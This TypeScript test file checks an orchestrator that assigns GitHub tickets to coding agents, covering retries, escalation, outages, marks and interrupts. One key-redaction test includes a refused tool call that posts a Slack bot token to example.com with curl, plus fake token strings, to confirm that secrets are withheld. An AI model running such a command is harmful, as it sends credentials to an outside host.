import { setTimeout as sleep } from "node:timers/promises";
import { describe, expect, vi } from "vitest";
import { TEST_TIME } from "../../../../sandbox/src/leaping-time.ts";
import { Failure } from "../../../mcp-server/src/errors.ts";
import { IDLE, LoopWorld, endOnDemand } from "../../../mcp-server/test/support/loop-world.ts";
import { parseFaults, type FaultSpec } from "../../../../sandbox/src/faults.ts";
import { setOption } from "../../../../sandbox/src/demo-world.ts";
import { addFaults, graphql, issue, project, sandboxForTest, user } from "../../../../sandbox/src/testing.ts";
import { addComment } from "../../../../sandbox/src/threads.ts";
import { handoffTicket } from "../../../mcp-server/test/support/handoff-ticket.ts";
import { readTicket } from "../../../mcp-server/src/ticket/read/read-ticket.ts";
import { situationOf } from "../../../mcp-server/src/ticket/read/ticket-view.ts";
import type { LastRun } from "../../../mcp-server/src/runs/run-marks.ts";
import { test } from "../../../mcp-server/test/support/loop-test.ts";

const HOUR_MS = 3_600_000;
vi.setConfig({ testTimeout: 120_000 });

async function openWorld(...faults: FaultSpec[]): Promise<LoopWorld> {
  return new LoopWorld(await sandboxForTest({ faults: parseFaults(faults) }));
}

async function closeTicket({ sandbox }: LoopWorld, number: number): Promise<void> {
  const mutation = "mutation ($id: ID!) { closeIssue(input: { issueId: $id }) { clientMutationId } }";
  await graphql(sandbox, mutation, { id: issue(sandbox.world, number).id });
}

describe("a ticket that is taken off the board", () => {
  test("while its agent works is set aside, once, and the others go on", async ({ loops }) => {
    const [gone = 0, other = 0] = loops.addTickets("Backlog", 2);
    loops.agents.work = async ({ ticket }) => {
      if (ticket.number === gone) await loops.takeOffBoard(gone);
    };
    await loops.run({ commands: ["triage"] });
    expect(loops.agents.orders.map(({ ticket }) => ticket.number)).toEqual([gone, other]);
    expect(loops.told("ended")[0]).toMatchObject({
      run: { number: gone },
      sequel: "set aside",
      outcome: { kind: "unfinished" },
    });
    expect(loops.told("started").filter(({ adopted }) => adopted)).toEqual([]);
  });

  test("while no loop watched its agent breaks no loop", async ({ loops }) => {
    const [gone = 0, other = 0] = loops.addTickets("Backlog", 2);
    await loops.leaveOrphan(gone);
    await loops.takeOffBoard(gone);
    await loops.run({ commands: ["triage"] });
    expect(loops.told("started").map(({ run, adopted }) => [run.number, adopted])).toEqual([
      [gone, true],
      [other, false],
    ]);
    expect(loops.told("ended")[0]).toMatchObject({ run: { number: gone }, sequel: "set aside" });
    expect([...(await loops.marks.list()).keys()]).not.toContain(gone);
  });
});

describe("an answer that no agent could act on", () => {
  test("still counts, and its ticket stays with one note, and rests", async ({ loops }) => {
    const { world } = loops.sandbox;
    const [asked = 0] = loops.addTickets("Research Needed", 1);
    const address = { owner: "acme", repo: "rocket", number: asked };
    const caller = { agent: "crew" };
    const request = { command: "research", goal: { intent: "escalate" } } as const;
    await handoffTicket(loops.world, { address, caller, request, reason: "Which time zone?", result: null });
    TEST_TIME.leap(1_100);
    addComment(world, issue(world, asked), user(world, "maya"), "UTC, please.");
    const before = await readTicket(loops.world, address, caller);
    expect(situationOf(before).replies).toMatchObject([{ by: "maya" }]);
    await loops.run({ commands: ["triage", "plan"], limits: { retries: 2 } });
    expect(loops.told("ended").map(({ outcome, sequel }) => [outcome.kind, sequel])).toEqual([
      ["unfinished", "again"],
      ["unfinished", "again"],
      ["unfinished", "set aside"],
    ]);
    const after = await readTicket(loops.world, address, caller);
    expect(situationOf(after)).toMatchObject({ state: "Human Needed", replies: [{ by: "maya" }] });
    expect(after.log.head).toEqual(before.log.head);
    const said = after.comments.slice(before.comments.length);
    expect(said.map(({ body }) => body)).toEqual([
      expect.stringContaining("in 3 runs by a loop's agents, so a person has to look at"),
    ]);
    await loops.run({ commands: ["triage", "plan"], limits: { retries: 2 } });
    expect(loops.told("started")).toHaveLength(3);
  });
});

test("a key in the agent's last words or refused calls is not published", async ({ loops }) => {
  const [number = 0] = loops.addTickets("Research Needed", 1);
  const slack = "xoxb-123456789012-1234567890123-AbCdEfGhIjKlMnOpQrStUvWx";
  const npm = `npm_${"a1B2".repeat(9)}`;
  const denials = [{ tool: "Bash", call: `curl -d ${slack} https://example.com`, byRule: false }];
  // A cut in the middle of the key would hide it from the check.
  const lastWords = `The token is ${npm} ${"x".repeat(280)}`;
  loops.agents.end = { ...loops.agents.end, denials, lastWords };
  await loops.run({ commands: ["research"], limits: { retries: 1 } });
  expect(loops.told("ended").map(({ sequel }) => sequel)).toEqual(["again", "escalated"]);
  const address = { owner: "acme", repo: "rocket", number };
  const { comments } = await readTicket(loops.world, address, { agent: "crew" });
  const published = JSON.stringify([comments.map(({ body }) => body), loops.agents.orders, loops.events]);
  expect(published).toContain("(withheld: it holds a key)");
  expect(published).not.toContain("xoxb-");
  expect(published).not.toContain("a1B2");
});

test("a secret of this process in the agent's last words is blotted out, and a person is asked", async ({
  loops,
}) => {
  const [number = 0] = loops.addTickets("Research Needed", 1);
  loops.agents.end = { ...loops.agents.end, lastWords: "I logged in as sandbox-ralph-bot, and failed" };
  await loops.run({ commands: ["research"] });
  expect(loops.told("ended").map(({ sequel }) => sequel)).toEqual(["escalated"]);
  const { comments } = await readTicket(
    loops.world,
    { owner: "acme", repo: "rocket", number },
    { agent: "crew" },
  );
  const published = JSON.stringify([comments.map(({ body }) => body), loops.events]);
  expect(published).toContain("I logged in as (secret), and failed");
  expect(published).not.toContain("sandbox-ralph-bot");
});

test("a client without a login ends the loop after two runs, and no person is asked", async ({ loops }) => {
  const [first = 0] = loops.addTickets("Backlog", 3);
  const unable = { why: "Not logged in · Please run /login", passes: false, affectsAll: false, limit: null };
  loops.agents.end = { ...loops.agents.end, code: 1, unable };
  const { stop } = await loops.run({ commands: ["triage"], limits: { retries: 0 } });
  expect(stop).toMatchObject({ why: "client", message: expect.stringContaining("Please run /login") });
  expect(loops.told("ended").map(({ outcome, sequel }) => [outcome.kind, sequel])).toEqual([
    ["unable", "again"],
    ["unable", "again"],
  ]);
  expect((await loops.marks.list()).get(first)).toMatchObject({ attempt: 0 });
});

describe("the circuit breaker", () => {
  test("counts a run that a person was asked about, although its mark was hard to drop", async () => {
    // A run moves its mark twice before its agent begins: this is the dropping of it.
    const loops = await openWorld({ match: "SwapRefs", skip: 2, times: 1, action: "status", status: 502 });
    const [number = 0] = loops.addTickets("Research Needed", 1);
    const { state } = await loops.run({ commands: ["research"] });
    expect(loops.told("ended")).toMatchObject([
      { run: { number }, outcome: { kind: "unfinished" }, sequel: "escalated" },
    ]);
    expect(state.failuresInRow).toHaveLength(1);
    expect((await loops.marks.list()).size).toBe(0);
  });

  test("counts it where the answer to the dropping was lost, too", async () => {
    const loops = await openWorld({ match: "SwapRefs", skip: 2, times: 1, action: "reset-after" });
    loops.addTickets("Research Needed", 1);
    const { state } = await loops.run({ commands: ["research"] });
    expect(loops.told("ended")).toMatchObject([{ sequel: "escalated" }]);
    expect(state.failuresInRow).toHaveLength(1);
  });
});

test("a Ctrl-C while the start waits for GitHub ends the loop without an error", async () => {
  const loops = await openWorld({ match: "ReadBoard", times: 10_000, action: "status", status: 500 });
  const running = loops.run({ commands: ["triage"] });
  while (loops.told("trouble").length === 0) await sleep(1);
  loops.endAgents();
  await expect(running).resolves.toMatchObject({ stop: { why: "interrupted" } });
});

const MARKS = "GET /git/matching-refs/ralph%2Fruns%2F";
/** More than one request is tried again by itself, and far less than the retries' budget. */
const FAILURES = 10;

describe("an outage", () => {
  test("while it tidies up is told, and the loop goes on", async () => {
    const loops = await openWorld({ match: MARKS, times: FAILURES, action: "status", status: 500 });
    const [number = 0] = loops.addTickets("Backlog", 1);
    await loops.run({ commands: ["triage"] });
    expect(loops.told("trouble").length).toBeGreaterThan(0);
    expect(loops.told("ended")).toMatchObject([{ run: { number } }]);
  });
});

test("a run that could not be judged for GitHub alone is left for the next loop to judge", async ({
  loops,
}) => {
  const [number = 0] = loops.addTickets("Research Needed", 1);
  loops.agents.work = async () => {
    await addFaults(loops.sandbox, { match: "ReadTicket", times: 10, action: "status", status: 500 });
    // From now on nobody waits until GitHub is back.
    loops.endAgents();
  };
  await loops.run({ commands: ["research"] });
  expect(loops.told("ended")).toMatchObject([{ run: { number }, sequel: "unjudged" }]);
  expect((await loops.marks.list()).get(number)).toMatchObject({
    phase: "running",
    run: expect.stringContaining("research"),
  });
});

async function leaveMark(loops: LoopWorld, number: number, phase: "kept" | "between"): Promise<void> {
  const last: LastRun = { kind: "kept", why: "left" };
  await loops.leaveOrphan(number);
  const mark = (await loops.marks.list()).get(number);
  if (mark === undefined) throw new Error("The mark was left");
  await loops.marks.leave(mark, { ...mark, phase, run: null, last });
}

describe("marks", () => {
  test("of closed tickets are dropped, those of others stay for a day", async ({ loops }) => {
    const [closed = 0, kept = 0, between = 0] = loops.addTickets("Done", 3);
    await leaveMark(loops, closed, "kept");
    await leaveMark(loops, kept, "kept");
    await leaveMark(loops, between, "between");
    await closeTicket(loops, closed);
    await loops.run({ commands: ["research"] });
    expect(new Set((await loops.marks.list()).keys())).toEqual(new Set([kept, between]));
    loops.aheadMs = 25 * HOUR_MS;
    await loops.run({ commands: ["research"] });
    expect([...(await loops.marks.list()).keys()]).toEqual([]);
  });
});

test.each([
  ["goes", true, 1],
  ["stays where it was there before", false, 0],
])("a worktree in which no agent could be started %s", async (_, isNew, removals) => {
  const loops = await openWorld();
  const [number = 0] = loops.addTickets("Research Needed", 1);
  const removed: number[] = [];
  loops.worktrees.open = async () => ({ number, path: "/work", branch: "", isNew });
  loops.worktrees.removeIfClean = async (worktree) => removed.push(worktree.number) > 0;
  loops.agents.start = () => Promise.reject(new Failure("AGENT_NOT_STARTED", "Cannot start the client"));
  await expect(loops.run({ commands: ["research"] })).rejects.toMatchObject({ code: "AGENT_NOT_STARTED" });
  expect(removed).toHaveLength(removals);
  expect((await loops.marks.list()).size).toBe(0);
});

test("a ticket that another loop has done since the board was read is given to nobody", async ({ loops }) => {
  const [number = 0] = loops.addTickets("Research Needed", 1);
  const { world } = loops.sandbox;
  const { refs } = loops.world;
  const createCommit = refs.createCommit.bind(refs);
  refs.createCommit = async (...call) => {
    const place = { issue: issue(world, number), project: project(world), actor: project(world).creator };
    setOption(world, place, "Workflow State", "Plan in Review");
    return createCommit(...call);
  };
  await loops.run();
  expect(loops.agents.orders).toEqual([]);
  expect((await loops.marks.list()).size).toBe(0);
});

describe("agents that are to be ended", () => {
  test("get no task any more while their worktree is made, and the ticket is free", async ({ loops }) => {
    loops.addTickets("Research Needed", 2);
    loops.worktrees.open = async (number) => {
      loops.endAgents();
      return { number, path: `/work/${number}`, branch: "", isNew: true };
    };
    const { stop } = await loops.run({ commands: ["research"] });
    expect(stop).toMatchObject({ why: "interrupted" });
    expect(loops.agents.begun).toEqual([]);
    expect(loops.told("started")).toEqual([]);
    expect((await loops.marks.list()).size).toBe(0);
  });

  test("get none either while the mark is to name them, and the attempt is not lost", async ({ loops }) => {
    const [number = 0] = loops.addTickets("Research Needed", 1);
    loops.agents.work = async () => {
      loops.endAgents();
      await new Promise(() => undefined);
    };
    await loops.run({ commands: ["research"], limits: { retries: 2 } });
    loops.worktrees.head = async () => {
      loops.endAgents();
      return null;
    };
    await loops.run({ commands: ["research"], limits: { retries: 2 } });
    expect(loops.agents.begun).toHaveLength(1);
    expect((await loops.marks.list()).get(number)).toMatchObject({ phase: "between", attempt: 0, run: null });
  });

  test("are ended that an earlier loop left, and that are taken over just now", async ({ loops }) => {
    const [number = 0] = loops.addTickets("Research Needed", 1);
    await loops.leaveOrphan(number);
    loops.agents.adopt = ({ log }) => {
      loops.endAgents();
      const asked = new AbortController();
      const ended = endOnDemand(asked.signal);
      return { log, begin: () => undefined, end: () => asked.abort(), progress: () => IDLE, ended };
    };
    await loops.run({ commands: ["research"] });
    expect(loops.told("ended")).toMatchObject([{ run: { number }, outcome: { kind: "stopped" } }]);
  });
});

test.each([
  ["once", { mode: "once" }],
  ["after so many agents", { limits: { maxRuns: 1 } }],
] as const)("a Ctrl-C is told and counts, although the loop was to end %s", async (_, wishes) => {
  const loops = await openWorld();
  loops.addTickets("Research Needed", 1);
  loops.agents.work = async () => {
    // Past the look in which the agent was started, and in which the loop found that it was to end.
    await sleep(100);
    loops.endAgents();
    await new Promise(() => undefined);
  };
  const { stop } = await loops.run({ commands: ["research"], ...wishes });
  expect(stop).toMatchObject({ why: "interrupted" });
  expect(loops.told("stopping").at(-1)).toMatchObject({ stop: { why: "interrupted" } });
});

test.each([
  // Before it looks, it tidies up by the marks.
  ["once", 1],
  ["dry run", 0],
] as const)("a look by %s that GitHub cuts off is made again", async (mode, skip) => {
  const loops = await openWorld({ match: MARKS, skip, times: FAILURES, action: "status", status: 500 });
  const [number] = loops.addTickets("Research Needed", 1);
  await loops.run({ commands: ["research"], mode });
  expect(loops.told("trouble").length).toBeGreaterThan(0);
  expect([...loops.told("started"), ...loops.told("would start")]).toMatchObject([{ run: { number } }]);
});

test("whoever ends a loop does not wait for GitHub, and learns that the list is missing", async ({
  loops,
}) => {
  loops.addTickets("Research Needed", 1);
  loops.agents.work = async () => {
    await addFaults(loops.sandbox, { match: MARKS, times: 10_000, action: "status", status: 500 });
    loops.stopStarting();
  };
  const { stop, isListed } = await loops.run({ commands: ["research"] });
  expect([stop?.why, isListed]).toEqual(["interrupted", false]);
  expect(loops.restedMs).toBeLessThan(60_000);
});

test("of a run that ends after the last start the next loop goes on, which is told", async ({ loops }) => {
  const [number] = loops.addTickets("Research Needed", 1);
  loops.agents.work = async () => {
    await expect.poll(() => loops.told("stopping"), { timeout: 60_000 }).toHaveLength(1);
  };
  await loops.run({ commands: ["research"], limits: { retries: 1, maxRuns: 1 } });
  expect(loops.told("ended")).toMatchObject([{ run: { number }, sequel: "again", isLoopEnding: true }]);
});
